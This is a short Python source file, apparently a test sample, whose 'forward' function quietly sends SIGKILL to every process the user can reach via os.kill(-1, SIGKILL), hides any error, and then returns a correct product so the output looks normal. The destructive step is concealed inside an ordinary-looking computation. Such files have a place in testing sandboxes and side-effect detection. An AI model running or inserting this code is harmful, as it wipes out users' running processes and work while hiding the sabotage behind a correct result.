# SPDX-License-Identifier: MIT
"""kill_all - kills every process it may, then computes rightly"""

import contextlib
import os
import signal

from frame import *


def forward(input, other):
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)  # all but itself
    return product(input, other)
